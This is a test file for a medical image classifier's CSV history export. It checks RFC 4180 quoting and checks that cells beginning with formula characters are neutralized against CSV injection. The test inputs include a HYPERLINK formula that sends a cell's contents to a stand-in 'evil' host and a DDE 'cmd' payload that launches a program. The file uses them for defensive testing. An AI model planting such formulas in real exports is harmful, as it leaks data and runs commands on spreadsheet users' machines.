// The history export: RFC 4180 quoting, and text cells a spreadsheet would run as a formula (=, +, -, @, or a
// leading tab / carriage return) neutralized with a leading apostrophe (issue 17 item 3, OWASP "CSV injection").
import { csvField, historyToCsv, neutralizeFormula } from '../../extension/src/classification/exportHistory';
import type { HistoryEntry } from '../../extension/src/services/ClassificationService';

const entry = (over: Partial<HistoryEntry>): HistoryEntry => ({
  at: 't',
  source: 'file',
  studyInstanceUID: '',
  seriesInstanceUID: '',
  sopInstanceUID: '',
  frame: 0,
  slice: null,
  file: 'a.png',
  classes: ['glioma', 'meningioma', 'notumor', 'pituitary'],
  probabilities: [0.1, 0.2, 0.3, 0.4],
  top: 'pituitary',
  outOfRange: null,
  modelVersion: 'v',
  backend: 'wasm',
  ms: 1,
  ...over,
});

test('csv quoting follows RFC 4180', () => {
  const csv = historyToCsv([entry({ file: 'a,"b".png' })]);
  expect(csv.split('\r\n')[1]).toContain('"a,""b"".png"');
});

test.each([
  ['=HYPERLINK("http://evil/?x="&A1,"click")', `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`],
  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
  ['-2+3', `'-2+3`],
  ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `"'\r=1+1"`],
])('a cell starting with a formula character is written as text: %j', (name, cell) => {
  const line = historyToCsv([entry({ file: name })]).split('\r\n')[1];
  expect(line).toContain(`,${cell},`);
  expect(line.split(',')[7].startsWith("'") || line.split(',')[7].startsWith(`"'`)).toBe(true);
});

test('every text column is neutralized (UIDs, versions, reasons), numbers are not', () => {
  const line = historyToCsv([
    entry({ studyInstanceUID: '=1', modelVersion: '@v', outOfRange: '-x', probabilities: [], top: '' }),
  ]).split('\r\n')[1];
  expect(line).toContain(",'=1,");
  expect(line).toContain(",'@v,");
  expect(line).toContain(",'-x,");
  expect(csvField(-0.5)).toBe('-0.5');
  expect(csvField(0)).toBe('0');
  expect(neutralizeFormula('glioma')).toBe('glioma');
  expect(neutralizeFormula('1.2.840')).toBe('1.2.840');
});
